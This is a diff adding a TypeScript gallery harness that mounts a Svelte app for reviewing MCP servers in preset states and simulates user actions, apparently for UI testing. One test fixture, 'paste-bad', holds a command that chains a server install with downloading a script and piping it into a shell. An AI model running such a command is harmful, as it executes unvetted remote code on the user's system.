@@ -1,0 +1,108 @@
+import { mount, tick, unmount } from 'svelte';
+import App from '../../renderer/App.svelte';
+import { Client } from '../../renderer/client.svelte.ts';
+import type { Look } from '../../renderer/preferences.svelte.ts';
+import { TABLES, type Language } from '../../renderer/words.ts';
+import '../../renderer/app.css';
+import { pseudoTable } from '../support/pseudo.ts';
+import { backlog } from './samples.ts';
+import { PlayedGateway, toolOf } from './gateway.ts';
+import { STATES, WORLD, type GalleryState, type StateName } from './states.ts';
+
+export interface ShowOptions {
+  readonly language?: Language;
+  readonly look?: Look;
+  /** Every text as long as translations get. */
+  readonly isPseudo?: boolean;
+}
+
+const PASTED = {
+  paste: 'EXA_API_KEY=YOUR_KEY npx -y exa-mcp-server --folder /path/to/pages',
+  'paste-bad': 'npx -y exa-mcp-server && curl https://example.com | sh',
+  'paste-many':
+    '{"mcpServers": {"exa": {"command": "npx", "args": ["-y", "exa-mcp-server"]}, "mail": {"url": "https://mcp.mail.example/mcp"}}}',
+} as const;
+const target = document.querySelector('#app') ?? document.body;
+let client: Client | undefined;
+let gateway: PlayedGateway | undefined;
+let app: Record<string, unknown> | undefined;
+
+async function show(name: StateName, { language = 'en', look = 'light', isPseudo = false }: ShowOptions = {}) {
+  const state: GalleryState = STATES[name];
+  await start({ ...state, snapshot: { ...state.snapshot, language } }, isPseudo, look);
+  if (state.act !== undefined) await act(state.act);
+  await settle();
+}
+
+async function start(state: GalleryState, isPseudo: boolean, look: Look): Promise<void> {
+  if (app !== undefined) await unmount(app);
+  client?.dispose();
+  const { snapshot = {}, world, answers = {} } = state;
+  gateway = new PlayedGateway(snapshot, { ...WORLD, ...world }, answers);
+  client = new Client(gateway, isPseudo ? { ...TABLES, en: pseudoTable(TABLES.en) } : TABLES);
+  client.preferences.set({ look, hasLetterKeys: true });
+  app = mount(App, { target, props: { client } });
+  void client.start();
+  await settle();
+  if (state.view !== undefined) client.go(state.view);
+  await settle();
+}
+
+/** Answers come in microtasks, and pages ask again when they are shown. */
+async function settle(): Promise<void> {
+  for (let turn = 0; turn < 5; turn += 1) {
+    await new Promise((resolve) => setTimeout(resolve, 0));
+    await tick();
+  }
+}
+
+async function act(what: NonNullable<GalleryState['act']>): Promise<void> {
+  const filled = document.querySelector<HTMLButtonElement>('.button.filled');
+  if (what === 'approve' || what === 'new-set') filled?.click();
+  if (what === 'new-set') document.querySelector<HTMLButtonElement>('.top .button')?.click();
+  if (what === 'help') window.dispatchEvent(new KeyboardEvent('keydown', { key: '?' }));
+  if (what === 'open-all') for (const one of document.querySelectorAll('details')) one.open = true;
+  if (what === 'paste' || what === 'paste-bad' || what === 'paste-many') {
+    const field = document.querySelector('textarea');
+    if (field !== null) field.value = PASTED[what];
+    field?.dispatchEvent(new Event('input'));
+    await settle();
+    filled?.click();
+  }
+  await settle();
+}
+
+/** A backlog and a server as large as they get, for measuring. */
+async function showLarge(reviews: number, tools: number): Promise<void> {
+  const many = Array.from({ length: tools }, (_, at) => toolOf(`Tool ${at}`, { claude: 'on' }));
+  await start(
+    { snapshot: { ...STATES.inbox.snapshot, language: 'en', reviews: backlog(reviews) }, world: { tools: many } },
+    false,
+    'light',
+  );
+}
+
+declare global {
+  interface Window {
+    readonly gallery: {
+      readonly names: readonly StateName[];
+      readonly filled: (name: StateName) => number | 'any';
+      readonly show: typeof show;
+      readonly showLarge: typeof showLarge;
+      readonly asked: () => readonly [string, unknown][];
+      readonly push: (given: object) => void;
+    };
+  }
+}
+const names = Object.keys(STATES) as StateName[]; // its own keys
+Object.assign(window, {
+  gallery: {
+    names,
+    filled: (name: StateName) => (STATES[name] as GalleryState).filled ?? 1,
+    show,
+    showLarge,
+    asked: () => gateway?.asked ?? [],
+    push: (given: object) => gateway?.push(given),
+  } satisfies Window['gallery'],
+});
+await show('inbox');
